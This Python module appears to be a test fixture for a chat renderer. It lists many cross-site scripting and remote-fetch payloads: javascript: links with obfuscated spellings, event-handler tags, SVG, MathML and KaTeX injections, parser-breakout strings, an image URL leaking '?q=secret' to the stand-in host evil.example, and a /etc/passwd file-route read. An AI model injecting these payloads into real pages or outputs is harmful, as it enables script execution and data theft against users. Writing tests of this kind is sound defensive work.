"""What a model, a user, a document or a name may hold to run code in the page or to make it fetch something.

`EVIL` stands for an address outside; a payload that runs sets `window.__xss`.
"""

EVIL = "https://evil.example"
RUN = "window.__xss=1"
PIXEL = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9"
    "awAAAABJRU5ErkJggg=="
)

CLOSED = (
    # Markdown that fetches or leads away
    f"![a]({EVIL}/1.png)",
    f'![a]({EVIL}/2.png "title")',
    f"![a][ref]\n\n[ref]: {EVIL}/3.png",
    f"![{EVIL}/4.png]\n\n[{EVIL}/4.png]: {EVIL}/4.png",
    f"[![a]({EVIL}/5.png)]({EVIL}/5)",
    f"![a](//{EVIL.removeprefix('https://')}/6.png)",
    "![a](/gradio_api/file=https://evil.example/7.png)",
    "![a](/gradio_api/file=/etc/passwd)",
    "![a](/gradio_api/proxy=https://evil.example/8.png)",
    f"[click](javascript:{RUN})",
    f"[click](java&#x0A;script:{RUN})",
    f"[click](&#x6A;avascript:{RUN})",
    f"[click](java\u200bscript:{RUN})",
    f"[click](data:text/html,<script>{RUN}</script>)",
    f"[click](vbscript:{RUN})",
    f"<javascript:{RUN}>",
    f"<{EVIL}/9>",
    f"{EVIL}/10?q=secret",
    # HTML
    f"<script>{RUN}</script>",
    f"<script src={EVIL}/11.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={EVIL}/12.png>",
    f"<img srcset='{EVIL}/13.png 1x'>",
    f"<picture><source srcset={EVIL}/14.png><img src=x></picture>",
    f"<IMG SRC=\"{EVIL}/15.png\" ONLOAD='{RUN}'>",
    f"<im\u200bg src=x onerror={RUN}><img/src=x/onerror={RUN}>",
    f"<video poster={EVIL}/16.png src={EVIL}/16.mp4 autoplay></video>",
    f"<audio src={EVIL}/17.mp3 autoplay></audio><track src={EVIL}/17.vtt>",
    f"<iframe src={EVIL}/18></iframe>",
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    f"<object data={EVIL}/19></object><embed src={EVIL}/19>",
    f"<link rel=stylesheet href={EVIL}/20.css>",
    f"<link rel=preload as=image href={EVIL}/21.png><link rel=dns-prefetch href={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/22'>",
    f"<base href={EVIL}/>",
    f"<style>body{{background:url({EVIL}/23.png)}}</style>",
    f"<style>@import '{EVIL}/24.css';</style>",
    f"<div style='background:url({EVIL}/25.png)'>styled</div>",
    f"<div style='background-image:image-set(\"{EVIL}/26.png\" 1x)'>styled</div>",
    f"<table background={EVIL}/27.png><tr><td background={EVIL}/27.png>cell</td></tr></table>",
    f"<input type=image src={EVIL}/29.png><button formaction={EVIL}/29 form=f>Go</button>",
    f"<a href={EVIL}/30 ping={EVIL}/30 target=_top>link</a>",
    f"<map name=m><area shape=default href={EVIL}/31></map><img usemap=#m src='{PIXEL}'>",
    "<div class='mermaid'>graph TD; A[\"<img src='https://evil.example/32.png'>\"] --> B</div>",
    '```mermaid\ngraph TD; A["<img src=https://evil.example/33.png>"]; click A "javascript:window.__xss=1"\n```',
    # Drawings and formulas
    f"<svg onload={RUN}><image href={EVIL}/34.png /></svg>",
    f"<svg><use href='{EVIL}/35.svg#a'/><script>{RUN}</script></svg>",
    f"<svg><style>@import '{EVIL}/36.css';</style><a href='javascript:{RUN}'><text y=10>x</text></a></svg>",
    f"<svg><filter><feImage href={EVIL}/37.png /></filter><rect filter='url({EVIL}/37.svg#p)'/></svg>",
    f"<svg><animate attributeName=href values=javascript:{RUN} /><set attributeName=onmouseover to={RUN} /></svg>",
    f"<math><a href=javascript:{RUN}>x</a><mtext><img src=x onerror={RUN}></mtext></math>",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$",
    f"\\(\\includegraphics{{{EVIL}/38.png}}\\)",
    f"$$\\htmlStyle{{background:url({EVIL}/39.png)}}{{x}}$$",
    f"$$<img src=x onerror={RUN}>$$",
    f"<span class='katex' style='background:url({EVIL}/40.png);position:fixed;top:0'>x</span>",
    # Code, nesting, data
    f"`<img src=x onerror={RUN}>`",
    f"```html\n<img src=x onerror={RUN}>\n```",
    f"> - ![a]({EVIL}/42.png)\n>   <img src={EVIL}/42b.png>",
    f"| a | b |\n|---|---|\n| <img src={EVIL}/43.png> | ![a]({EVIL}/44.png) |",
    f"![a](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>)",
    f"<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+'><img src='data:text/html,{RUN}'>",
    f"<a id=astrai name=body href=x>clobber</a><form name=cookie></form><img name=querySelector src='{PIXEL}'>",
    f"<button class='copy_code_button' onclick={RUN} data-act=delete>Copy</button><dialog open>Log in <input></dialog>",
    f"\u202e<img src={EVIL}/46.png>\u202c\ufeff<a href='{EVIL}/\u200b47'>x</a>",
)
# These may swallow what stands after them.
OPEN = (
    f"<form action={EVIL}/28 id=f><input name=q autofocus onfocus={RUN}><button>Go</button></form>",
    f"<details open ontoggle={RUN}><summary>open</summary>in it</details>",
    f"<marquee onstart={RUN}>moving</marquee><body onload={RUN}>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={RUN}>'></table></math>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'></svg>",
    f"```\n```<img src={EVIL}/41.png>",
    f"<!-- --!><img src=x onerror={RUN}> -->",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<template><img src={EVIL}/45.png></template><xmp><img src=x onerror={RUN}></xmp>",
)
PAYLOADS = (*CLOSED, *OPEN)
SIZE = 6
MESSAGES = (*("\n\n".join(CLOSED[place : place + SIZE]) for place in range(0, len(CLOSED), SIZE)), *OPEN)
# What fires by itself, or by a pointer, a key or a focus that passes.
ELEMENTS = (
    ("img", "src=x onerror"), ("img", f"src={PIXEL} onload"), ("svg", "onload"), ("body", "onpageshow"),
    ("input", "autofocus onfocus"), ("select", "autofocus onfocus"), ("video", "src=x onerror"),
    ("audio", "src=x onerror"), ("details", "open ontoggle"), ("marquee", "onstart"), ("style", "onload"),
    ("script", "src=x onerror"), ("iframe", "src=about:blank onload"), ("object", "data=x onerror"),
    ("embed", "src=x onload"), ("link", "rel=stylesheet href=x onerror"), ("textarea", "autofocus onfocus"),
    ("p", "onpointerrawupdate"), ("a", "id=x tabindex=1 onfocusin"), ("dialog", "open onclose"),
    ("xss", "style=animation:x onanimationstart"), ("math", "href=x onmouseover"), ("button", "popover onbeforetoggle"),
)  # fmt: skip
SPELLINGS = (
    "<{tag} {names}={run}>",
    "<{TAG} {NAMES}={run}>",
    "<{tag}/{names}='{run}'//",
    '<{tag}\t\n{names}\n=\f"{run}">',
    "<{tag} {names}=window&#46;__xss&equals;1>",
    '"><{tag} {names}={run}>',
    "'/></textarea></title></style></script></template><{tag} {names}={run}>",
    "<<{tag} {names}={run}<!--",
    "&lt;{tag} {names}={run}&gt;<{tag} {names}={run} x=`",
    '[a](x "<{tag} {names}={run}>")',
    '```"><{tag} {names}={run}>\n<{tag} {names}={run}>\n```',
)
SPELT = tuple(
    spelling.format(tag=tag, TAG=tag.upper(), names=names, NAMES=names.upper(), run=RUN)
    for tag, names in ELEMENTS
    for spelling in SPELLINGS
)
EVERY = (*PAYLOADS, *SPELT)
